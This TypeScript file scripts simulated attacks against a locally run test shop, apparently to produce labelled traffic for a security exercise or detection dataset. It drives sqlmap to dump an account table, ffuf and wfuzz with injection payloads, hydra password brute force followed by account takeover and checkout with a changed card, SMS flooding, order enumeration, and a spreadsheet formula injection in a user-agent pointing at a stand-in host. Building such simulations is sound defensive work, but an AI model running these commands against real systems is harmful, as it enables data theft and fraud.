/**
 * The attacks of the plan. Tools are those of Debian's packages, with their own agents; scripts of ours stand where no tool
 * does it. Each is a stretch of its own: it begins at `startsAt` and goes on as it went.
 */
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { ADDRESS_HEADER, BLOCK_HEADER } from './gateway.ts';
import { BOT_HOMES, DIGITALOCEAN, HETZNER, HOMES, OVH, TOR, VPN } from './networks.ts';
import { ACCOUNTS, FORMULA } from './store.ts';

export interface Attack {
  block: string;
  startsAt: string;
  run(place: Place): Promise<void>;
}

export interface Place {
  origin: string;
  port: number;
  folder: string;
}

const AGENT =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36';
const WORDLIST = '/usr/share/dirb/wordlists/small.txt';
const PASSWORDS = '/usr/share/wfuzz/wordlist/others/common_pass.txt';
const PAYLOADS = '/usr/share/wfuzz/wordlist/Injections/All_attack.txt';

export const ATTACKS: Attack[] = [
  {
    // The key that is at work at midnight has requests on both days.
    block: 'scraper',
    startsAt: '2024-05-15T23:58:50Z',
    async run(place) {
      for (const [n, ip] of BOT_HOMES.entries()) {
        const client = new Client(place, 'scraper', ip, AGENT);
        await client.send('GET', '/');
        for (let product = 1; product <= 48; product++) {
          await client.send('GET', `/api/v2/products/${n * 48 + product}`);
          await wait(110 + ((product * 37) % 90));
        }
      }
    },
  },
  {
    block: 'sqlmap in a session',
    startsAt: '2024-05-17T14:05:00Z',
    async run(place) {
      const client = new Client(place, 'sqlmap in a session', HOMES[10], AGENT);
      await client.send('GET', '/');
      await client.signIn('kim@example.com');
      for (const path of [
        '/api/v2/products',
        '/api/v2/products/7',
        '/api/v2/search?q=lamp',
        '/api/v1/products?name=Lamp',
      ]) {
        await client.send('GET', path);
        await wait(400);
      }
      await tool(place, 90, 'sqlmap', [
        '-u',
        `${place.origin}/api/v1/products?name=Lamp`,
        '-p',
        'name',
        '--batch',
        '--technique=BEU',
        '--dbms=PostgreSQL',
        '--dump',
        '-T',
        'account',
        '--output-dir',
        join(place.folder, 'sqlmap'),
        '--threads=1',
        '-H',
        `${ADDRESS_HEADER}: ${HOMES[10]}`,
        '-H',
        `${BLOCK_HEADER}: sqlmap in a session`,
        '-H',
        `Cookie: ${client.cookie}`,
        '-H',
        `Authorization: Bearer ${client.token}`,
      ]);
    },
  },
  {
    block: 'sqlmap against the patch',
    startsAt: '2024-05-16T03:20:00Z',
    run: (place) =>
      tool(place, 60, 'sqlmap', [
        '-u',
        `${place.origin}/api/v2/search?q=lamp`,
        '-p',
        'q',
        '--batch',
        '--technique=BEU',
        '--output-dir',
        join(place.folder, 'sqlmap2'),
        '-H',
        `${ADDRESS_HEADER}: ${DIGITALOCEAN}`,
        '-H',
        `${BLOCK_HEADER}: sqlmap against the patch`,
      ]),
  },
  {
    block: 'ffuf',
    startsAt: '2024-05-14T02:10:00Z',
    async run(place) {
      await tool(place, 180, 'ffuf', [
        '-u',
        `${place.origin}/api/v2/FUZZ`,
        '-w',
        WORDLIST,
        '-t',
        '4',
        '-p',
        '0.05',
        '-s',
        '-ac',
        '-H',
        `${ADDRESS_HEADER}: ${OVH}`,
        '-H',
        `${BLOCK_HEADER}: ffuf`,
      ]);
      // What a list of words does not hold, its user knows from elsewhere.
      for (const path of ['/api/v2/internal', '/api/v2/internal/accounts-export', '/api/v2/internal/accounts-export']) {
        await tool(place, 10, 'curl', [
          '-s',
          '-o',
          '/dev/null',
          '-H',
          `${ADDRESS_HEADER}: ${OVH}`,
          '-H',
          `${BLOCK_HEADER}: ffuf`,
          `${place.origin}${path}`,
        ]);
      }
    },
  },
  {
    block: 'wfuzz',
    startsAt: '2024-05-18T04:40:00Z',
    run: (place) =>
      tool(place, 120, 'wfuzz', [
        '-t',
        '3',
        '-s',
        '0.05',
        '-w',
        PAYLOADS,
        '-H',
        `${ADDRESS_HEADER}: ${VPN}`,
        '-H',
        `${BLOCK_HEADER}: wfuzz`,
        `${place.origin}/api/v1/products?name=FUZZ`,
      ]),
  },
  {
    block: 'hydra, limited',
    startsAt: '2024-05-15T01:15:00Z',
    run: (place) => hydra(place, 'hydra, limited', '/api/v2/login', 'gus@example.com', HETZNER),
  },
  {
    block: 'hydra, former version',
    startsAt: '2024-05-15T01:25:00Z',
    async run(place) {
      await hydra(place, 'hydra, former version', '/api/v1/login', 'tess@example.com', HETZNER);
      // What follows: the account is used.
      const client = new Client(place, 'hydra, former version', HETZNER, AGENT);
      await client.send('GET', '/');
      await client.signIn('tess@example.com');
      const { id } = ACCOUNTS.find(({ email }) => email === 'tess@example.com')!;
      await client.send('GET', `/api/v2/accounts/${id}`);
      await client.send('PUT', `/api/v2/accounts/${id}`, { address: 'Poste restante' });
      await client.send('PUT', `/api/v2/accounts/${id}/payment-method`, { card: '4000 0000 0000 9999' });
      await client.send('POST', '/api/v2/checkout', {});
      await client.send('POST', '/api/v2/payments', { card: 'on file' });
    },
  },
  {
    block: 'tor',
    startsAt: '2024-05-13T22:03:00Z',
    async run(place) {
      for (let n = 0; n < 24; n++) {
        const path = ['/api/v2/login', '/api/v2/products', '/api/v2/internal/accounts-export'][n % 3]!;
        await tool(place, 10, 'curl', [
          '-s',
          '-o',
          '/dev/null',
          '-H',
          `${ADDRESS_HEADER}: ${TOR}`,
          '-H',
          `${BLOCK_HEADER}: tor`,
          `${place.origin}${path}`,
        ]);
      }
    },
  },
  {
    block: 'sms',
    startsAt: '2024-05-17T19:30:00Z',
    async run(place) {
      const client = new Client(place, 'sms', VPN, 'python-requests/2.28.1');
      for (let n = 0; n < 60; n++) {
        await client.send('POST', '/api/v2/sms-codes', { phone: `+1 900 555 ${1000 + n}` });
        await wait(250);
      }
    },
  },
  {
    block: 'orders of others',
    startsAt: '2024-05-18T11:12:00Z',
    async run(place) {
      const client = new Client(place, 'orders of others', HOMES[4], AGENT);
      await client.send('GET', '/');
      await client.signIn('zoe@example.com');
      await client.send('GET', '/api/v2/orders');
      for (let order = 5001; order <= 5070; order++) {
        await client.send('GET', `/api/v2/orders/${order}`);
        await wait(500);
      }
      await client.send('GET', '/api/v2/products?limit=600');
    },
  },
  {
    block: 'formula',
    startsAt: '2024-05-16T15:20:00Z',
    async run(place) {
      const client = new Client(place, 'formula', VPN, '=HYPERLINK("https://collect.example/","open")');
      await client.send('GET', '/');
      await client.signIn(FORMULA.email);
      for (const path of ['/api/v2/products', '/api/v2/products/3', '/api/v2/search?q=%3D1%2B1', '/api/v2/cart']) {
        await client.send('GET', path);
        await wait(400);
      }
    },
  },
  ...[12, 14, 16, 18].map((day, n) => ({
    // No attack: a program that was never moved to the current version.
    block: `partner ${n + 1}`,
    startsAt: `2024-05-${day}T06:00:00Z`,
    async run(place: Place) {
      const client = new Client(place, `partner ${n + 1}`, DIGITALOCEAN, 'ParcelPartner/1.3');
      for (let order = 0; order < 30; order++) {
        await client.send('GET', `/api/v1/orders/${6000 + n * 30 + order}`);
        await wait(400);
      }
    },
  })),
];

function hydra(place: Place, block: string, path: string, email: string, ip: string): Promise<void> {
  const form = `${path}:email=^USER^&password=^PASS^:H=${ADDRESS_HEADER}\\: ${ip}:H=${BLOCK_HEADER}\\: ${block}:F=error`;
  return tool(place, 60, 'hydra', [
    '-I',
    '-f',
    '-t',
    '2',
    '-l',
    email,
    '-P',
    PASSWORDS,
    '-s',
    String(place.port),
    '127.0.0.1',
    'http-post-form',
    form,
  ]);
}

/** A client without a browser. */
class Client {
  cookie = '';
  token = '';
  readonly #place: Place;
  readonly #headers: Record<string, string>;

  constructor(place: Place, block: string, ip: string, agent: string) {
    this.#place = place;
    this.#headers = { 'user-agent': agent, [ADDRESS_HEADER]: ip, [BLOCK_HEADER]: block };
  }

  async send(method: string, path: string, body?: object): Promise<string> {
    const response = await fetch(`${this.#place.origin}${path}`, {
      method,
      headers: {
        ...this.#headers,
        ...(this.cookie ? { cookie: this.cookie } : {}),
        ...(this.token ? { authorization: `Bearer ${this.token}` } : {}),
        ...(body ? { 'content-type': 'application/json' } : {}),
      },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    this.cookie ||= /^[^;]+/.exec(response.headers.get('set-cookie') ?? '')?.[0] ?? '';
    return response.text();
  }

  async signIn(email: string): Promise<void> {
    const { password } = ACCOUNTS.find((account) => account.email === email)!;
    const answer = await this.send('POST', '/api/v2/login', { email, password });
    this.token = (JSON.parse(answer) as { token: string }).token;
  }
}

/** Runs a tool to its end, or for so many seconds; what it says is kept beside. */
function tool({ folder }: Place, seconds: number, command: string, args: string[]): Promise<void> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let said = '';
    child.stdout.on('data', (text) => (said += text));
    child.stderr.on('data', (text) => (said += text));
    const limit = globalThis.setTimeout(() => child.kill('SIGKILL'), seconds * 1000);
    child.on('error', reject);
    child.on('close', () => {
      clearTimeout(limit);
      writeFileSync(join(folder, `${command}-${Date.now()}.log`), said);
      resolve();
    });
  });
}
